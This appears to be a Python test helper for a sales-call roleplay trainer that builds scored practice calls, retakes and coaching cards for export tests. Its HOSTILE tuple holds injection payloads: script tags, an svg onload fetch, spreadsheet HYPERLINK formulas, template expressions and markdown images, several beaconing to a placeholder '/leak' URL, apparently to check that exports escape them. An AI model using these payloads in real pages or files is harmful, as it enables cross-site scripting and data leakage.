"""A store with calls in it to be exported: played for real, with takes, older cards, hints and hostile words."""

import asyncio
from pathlib import Path

from roleplay import coach
from roleplay.export import Whole, whole
from roleplay.model import Mode, Move
from roleplay.persona import Persona
from roleplay.session import Session
from roleplay.store import Store
from roleplay.takes import Retake

SKILLED = (
    "Hello, it's Ana from Northlight. Is this a bad time?",
    "It sounds like every week is like that.",
    "What would it have to do before it was worth your time?",
    "You want money off, don't you?",
    "I will leave it there and let you get on.",
)
HOSTILE = (
    '<script>document.title="owned"</script><img src="{url}/leak" onerror="x">',
    '=HYPERLINK("{url}/leak","{{{{ 7*7 }}}}") </style></p><link rel=stylesheet href={url}/leak>',
    "-1 [x]({url}/leak) ![y]({url}/leak) &lt;b&gt; ```",
    "@SUM(A1) | <svg onload=fetch('{url}/leak')> ‮abc",
)


def played(store: Store, persona: Persona, lines: tuple[str, ...], *, seed: int = 1, again: int = 0) -> Whole:
    """A call of these lines, scored; with `again`, that turn is played once more and the call scored twice."""
    session = Session.start(persona, level=2, seed=seed, mode=Mode.PRACTICE, keeper=store)

    async def talk() -> None:
        for line in lines:
            if not session.over:
                await session.say(line, seconds=3.5)

    asyncio.run(talk())
    session.end()
    store.cards.keep(session.call.id, coach.review(session.call, persona))
    if again:
        store.cards.keep(session.call.id, coach.review(session.contest(2, Move.LABEL) and session.call, persona))
        store.takes.keep(_take(session, again))
    return whole(store, session.call.id)


def _take(session: Session, turn: int):
    retake = Retake(session.persona, session.call, turn)
    asyncio.run(retake.say("It sounds like you have been let down before. What happened then?"))
    take = retake.take()
    assert take is not None
    return take


def shelf(folder: Path) -> Store:
    return Store(folder / "calls.db")
